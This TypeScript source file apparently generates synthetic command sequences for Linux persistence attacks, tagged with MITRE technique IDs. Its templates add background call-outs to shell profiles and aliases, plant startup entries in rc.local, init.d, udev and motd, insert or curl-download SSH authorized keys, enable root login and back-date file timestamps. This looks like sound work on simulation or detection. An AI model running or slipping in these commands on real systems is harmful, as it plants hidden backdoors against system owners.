import type { Attack } from '../scenario.ts';
import { link, look, maybe, quote, root, workFile, write } from '../ways.ts';
import { callOut, stayer } from './beacon.ts';

/** Files that a shell reads at its start call out. */
const byProfile: Attack = {
  name: 'persistence-by-profile',
  family: 'persistence-by-profile',
  techniques: ['T1546.004'],
  as: 'either',
  needs: ['curl', 'wget', 'nc', 'python3', 'sudo'],
  lines: (draw, place) => {
    const { extension, body } = stayer(draw, place);
    const path = `${place.home}/${draw.pick(['.cache', '.config', '.local/lib'])}/${draw.word()}${extension}`;
    const job = draw.chance(0.5) ? callOut(draw, place) : draw.pick([path, `nohup ${path}`]);
    const mine = draw.pick([
      '~/.bashrc',
      '~/.profile',
      '~/.bash_profile',
      '~/.bash_logout',
      '~/.bash_aliases',
    ]);
    const all = draw.pick([`/etc/profile.d/${draw.word()}.sh`, '/etc/bash.bashrc', '/etc/profile']);
    const program = draw.pick(['sudo', 'ls', 'ssh']);
    const added = `(${job} > /dev/null 2>&1 &)`;
    return [
      ...look(draw, draw.int(2, 3)),
      ...maybe(draw, 0.4, 'ls -la ~', 'tail -5 ~/.bashrc'),
      ...(job.includes(path)
        ? [`mkdir -p ${path.slice(0, path.lastIndexOf('/'))}`, write(draw, path, body), `chmod +x ${path}`]
        : []),
      draw.pick([
        `echo ${quote(added)} >> ${mine}`,
        `printf '\\n%s\\n' ${quote(added)} >> ${mine}`,
        `echo ${quote(added)} | ${root(place, `tee -a ${all}`)} > /dev/null`,
        `cat >> ${mine} << 'EOF'\n${added}\nEOF`,
        `echo ${quote(`alias ${program}=${quote(`${job} >/dev/null 2>&1 & \\${program}`)}`)} >> ${mine}`,
      ]),
      ...maybe(
        draw,
        0.6,
        draw.pick([
          'bash -lc true',
          'bash -ic true',
          `${root(place, `su - ${draw.pick(place.users)} -c true`)}`,
        ]),
        `sleep ${draw.int(3, 20)}`,
      ),
      ...maybe(draw, 0.3, `touch -d '${draw.int(20, 400)} days ago' ${mine}`),
    ];
  },
};

/** Start-up files of the machine: rc.local, an init script, a rule of udev, a message of the day. */
const byStartup: Attack = {
  name: 'persistence-by-startup-file',
  family: 'persistence-by-startup-file',
  techniques: ['T1037.004', 'T1546.017'],
  as: 'either',
  needs: ['curl', 'wget', 'nc', 'python3', 'sudo'],
  lines: (draw, place) => {
    const name = draw.word();
    const { body } = stayer(draw, place);
    const binary = `${draw.pick(['/usr/local/sbin', '/usr/lib', '/opt', '/var/lib'])}/${name}`;
    const made = workFile(draw, place, '.sh');
    const rules = `/etc/udev/rules.d/${draw.int(10, 99)}-${name}.rules`;
    const started = draw.pick([
      { path: '/etc/rc.local', text: `#!/bin/sh -e\n${binary} &\nexit 0` },
      {
        path: `/etc/init.d/${name}`,
        text: `#!/bin/sh\n### BEGIN INIT INFO\n# Provides: ${name}\n# Default-Start: 2 3 4 5\n### END INIT INFO\n${binary} &`,
      },
      {
        path: rules,
        text: `ACTION=="add", SUBSYSTEM=="${draw.pick(['net', 'block', 'usb'])}", RUN+="${binary}"`,
      },
      {
        path: `/etc/update-motd.d/${draw.int(20, 98)}-${name}`,
        text: `#!/bin/sh\n${callOut(draw, place)} > /dev/null 2>&1 &`,
      },
      {
        path: `/etc/xdg/autostart/${name}.desktop`,
        text: `[Desktop Entry]\nType=Application\nName=${name}\nExec=${binary}`,
      },
    ]);
    return [
      ...maybe(
        draw,
        0.4,
        draw.pick(['ls -la /etc/rc.local /etc/init.d', 'ls /etc/udev/rules.d', 'ls /etc/update-motd.d']),
      ),
      write(draw, made, body),
      root(place, `mv ${made} ${binary}`),
      root(place, `chmod 755 ${binary}`),
      ...maybe(draw, 0.5, root(place, `chown root:root ${binary}`)),
      root(place, `mkdir -p ${started.path.slice(0, started.path.lastIndexOf('/'))}`),
      `${root(place, `tee ${draw.chance(0.3) ? '-a ' : ''}${started.path}`)} > /dev/null << 'EOF'\n${started.text}\nEOF`,
      ...maybe(draw, 0.8, root(place, `chmod +x ${started.path}`)),
      ...(started.path === rules ? maybe(draw, 0.5, root(place, 'udevadm control --reload')) : []),
      ...maybe(draw, 0.5, `(${root(place, binary)} > /dev/null 2>&1 &)`, `sleep ${draw.int(5, 20)}`),
    ];
  },
};

/** A key of another is let in. */
const byKey: Attack = {
  name: 'persistence-by-key',
  family: 'persistence-by-key',
  techniques: ['T1098.004'],
  as: 'either',
  needs: ['ssh-keygen', 'curl', 'sudo'],
  lines: (draw, place) => {
    const key = `/tmp/${draw.word()}`;
    const whom = draw.pick(['~', '/root', `/home/${draw.pick(place.users)}`]);
    const as = (command: string): string => (whom === '~' ? command : root(place, command));
    const text = `ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAI${Array.from({ length: 43 }, () => draw.pick([...'ABCDEFGHabcdefghijkmnopqrstuvwxyz0123456789'])).join('')} ${draw.word()}`;
    const add = draw.pick([
      [`echo "${text}" | ${as(`tee -a ${whom}/.ssh/authorized_keys`)} > /dev/null`],
      [
        `ssh-keygen -q -t ${draw.pick(['ed25519', 'ecdsa'])} -N '' -f ${key}`,
        `${as('bash -c')} "cat ${key}.pub >> ${whom}/.ssh/authorized_keys"`,
        `rm -f ${key}.pub`,
      ],
      [as(`curl -s ${link(draw, place, '.txt')} -o ${whom}/.ssh/authorized_keys`)],
      [write(draw, key, text), as(`cp ${key} ${whom}/.ssh/authorized_keys`), `rm ${key}`],
    ]);
    return [
      ...look(draw, draw.int(1, 2)),
      ...maybe(draw, 0.5, as(`ls -la ${whom}/.ssh`)),
      as(`mkdir -p ${whom}/.ssh`),
      ...add,
      ...maybe(draw, 0.6, as(`chmod 600 ${whom}/.ssh/authorized_keys`)),
      ...maybe(
        draw,
        0.3,
        root(place, `sed -i 's/^#*PermitRootLogin.*/PermitRootLogin yes/' /etc/ssh/sshd_config`),
      ),
      ...maybe(draw, 0.3, as(`touch -r /etc/hostname ${whom}/.ssh/authorized_keys`)),
      ...maybe(draw, 0.3, as(`tail -1 ${whom}/.ssh/authorized_keys`)),
    ];
  },
};

export const LOGIN_PERSISTENCE: readonly Attack[] = [byProfile, byStartup, byKey];
